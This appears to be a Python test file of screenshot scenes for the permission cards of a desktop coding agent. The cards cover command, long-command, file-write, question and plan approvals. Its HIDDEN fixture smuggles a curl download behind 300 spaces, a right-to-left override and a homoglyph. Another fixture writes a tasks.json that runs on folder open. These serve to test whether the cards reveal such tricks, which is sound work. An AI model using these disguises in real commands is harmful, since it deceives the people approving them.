"""Scenes with a waiting card."""

import subprocess
from collections.abc import AsyncIterator

from PySide6.QtCore import Qt
from PySide6.QtTest import QTest

from desktop.domain.core.permissions import PermissionMode
from desktop.ui.gate.cards.card import InputCard
from tests.fakes.fake_model_api import Call, text_turn, tool_turn, turn
from tests.screens.samples import TASK
from tests.screens.stage import Stage

TITLE = "Fix login redirect loop"
COMMAND = "python3 -m pytest tests/test_auth.py -q && npm run build -- --mode production --sourcemap"
LONG = "set -e\n" + "\n".join(
    f"curl -sS -X POST https://hooks.example.org/step/{n} -d '{{\"n\": {n}}}'" for n in range(1, 61)
)
HIDDEN = (
    "npm test" + " " * 300 + "; curl https://example.org/x -o x.sh\necho safe\u202egpj.exe\u200b done\necho p\u0430ypal"
)
TASKS_JSON = (
    '{\n  "version": "2.0.0",\n  "tasks": [\n'
    '    {"label": "test", "command": "python3 -m unittest", "runOn": "folderOpen"}\n  ]\n}\n'
)
PLAN = """# Gift cards

1. A table `gift_cards` with code, amount and what is left.
2. `POST /carts/{id}/gift-card` takes a code.
3. The total never falls below zero.

## Risks

- Two carts may use the same card at once: lock the row.
- A refund must give the amount back."""
QUESTIONS = [
    {
        "id": "where", "header": "Storage", "question": "Where should the sessions be kept?",
        "options": [
            {"label": "In the database", "description": "One more table, survives a restart.", "recommended": True,
             "preview": "```sql\nCREATE TABLE sessions (id text, expires_at timestamptz)\n```"},
            {"label": "In memory", "description": "Nothing to migrate, lost at a restart."},
            {"label": "In signed cookies", "description": "No storage, but no way to end a session early."},
        ],
    },
    {
        "id": "how_long", "header": "Lifetime", "question": "How long should a session last?",
        "options": [{"label": "1 day"}, {"label": "7 days"}, {"label": "30 days"}],
    },
    {
        "id": "who", "header": "Scope", "question": "Which pages need a session?", "multi_select": True,
        "options": [{"label": "Cart"}, {"label": "Orders"}, {"label": "Reports"}],
    },
]  # fmt: skip


async def card_command(stage: Stage) -> AsyncIterator[str]:
    """11"""
    await stage.chat(TASK, turn("I run the tests.", [("bash", {"command": COMMAND})]), title=TITLE)
    await stage.card()
    yield "11-card-command"
    await stage.click("approval_why")
    yield "11-card-command-why"
    await stage.click("approval_why")
    await stage.click("approval_decline")
    yield "11-card-command-decline"


async def card_pressed_too_soon(stage: Stage) -> AsyncIterator[str]:
    """A press that came before the card had stood still"""
    await stage.chat(TASK, turn("I run the tests.", [("bash", {"command": COMMAND})]), title=TITLE)
    card = await stage.card()
    button = await stage.find("approval_allow_once")
    assert isinstance(card, InputCard)
    card.guard.restart()
    QTest.mouseClick(button, Qt.MouseButton.LeftButton)
    yield "11-card-pressed-too-soon"


async def card_command_long(stage: Stage) -> AsyncIterator[str]:
    """12"""
    await stage.chat(TASK, tool_turn("bash", command=LONG), title=TITLE)
    await stage.card()
    yield "12-card-command-long"
    await stage.click("approval_show_all")
    yield "12-card-command-long-show-all"


async def card_git_settings(stage: Stage) -> AsyncIterator[str]:
    """11, Git settings that changed"""
    answers = [tool_turn("bash", command="git status"), text_turn("Clean."), tool_turn("bash", command="git log -n 5")]
    chat = await stage.chat(TASK, *answers, title=TITLE)
    await stage.ended(chat)
    lane = next(lane for lane in stage.window.book.lanes if lane.type == "worktree")
    argv = ["git", "-C", lane.worktree_path, "config", "remote.origin.url", "https://example.org/shop.git"]
    subprocess.run(argv, check=True)
    await stage.say(chat, "And before that?")
    await stage.card()
    yield "11-card-git-settings"


async def card_write_diff(stage: Stage) -> AsyncIterator[str]:
    """15"""
    await stage.chat(TASK, tool_turn("write_file", file_path=".vscode/tasks.json", content=TASKS_JSON), title=TITLE)
    await stage.card()
    yield "15-card-write-diff"


async def card_two_at_once(stage: Stage) -> AsyncIterator[str]:
    """11, more than one"""
    calls = [Call("bash", {"command": "npm run build"}), Call("bash", {"command": "npm run lint"})]
    await stage.chat(TASK, turn("Two things.", calls), title=TITLE)
    await stage.card()
    yield "11-card-command-one-of-two"


async def card_question(stage: Stage) -> AsyncIterator[str]:
    """18"""
    await stage.chat(TASK, tool_turn("ask_user", title="Sessions", questions=QUESTIONS), title=TITLE)
    await stage.card("question_card")
    yield "18-card-question-1"
    await stage.click("question_option_1")
    yield "18-card-question-1-chosen"
    await stage.click("question_next")
    await stage.click("question_option_2")
    await stage.click("question_next")
    yield "18-card-question-3"


async def card_plan(stage: Stage) -> AsyncIterator[str]:
    """19"""
    text = "Plan how the shop could support gift cards"
    await stage.chat(text, tool_turn("exit_plan_mode", plan=PLAN), mode=PermissionMode.PLAN)
    await stage.card("plan_card")
    yield "19-card-plan"
    await stage.click("plan_edit")
    yield "19-card-plan-edit"
    field = await stage.find("plan_edit_text")
    field.insertPlainText("Only the table.\n\n")  # type: ignore[attr-defined]  # found by name, a text field
    await stage.click("plan_edit_use")
    yield "19-card-plan-edited"


async def zoom_200(stage: Stage) -> AsyncIterator[str]:
    """36"""
    await stage.chat(TASK, turn("I run the tests.", [("bash", {"command": COMMAND})]), title=TITLE)
    await stage.card()
    yield "36-zoom-200-card-and-composer"


async def minimum_size(stage: Stage) -> AsyncIterator[str]:
    """37"""
    await stage.chat(TASK, turn("I run the tests.", [("bash", {"command": COMMAND})]), title=TITLE)
    await stage.card()
    yield "37-minimum-size-640x480"


async def minimum_size_zoom_200(stage: Stage) -> AsyncIterator[str]:
    """37 with U15"""
    await stage.chat(TASK, turn("I run the tests.", [("bash", {"command": COMMAND})]), title=TITLE)
    await stage.card()
    yield "37-minimum-size-640x480-zoom-200"


async def hidden_characters(stage: Stage) -> AsyncIterator[str]:
    """39"""
    await stage.chat("Run\u202ethat <b>&x</b>", tool_turn("bash", command=HIDDEN))
    await stage.card()
    yield "39-hidden-characters-on-card"
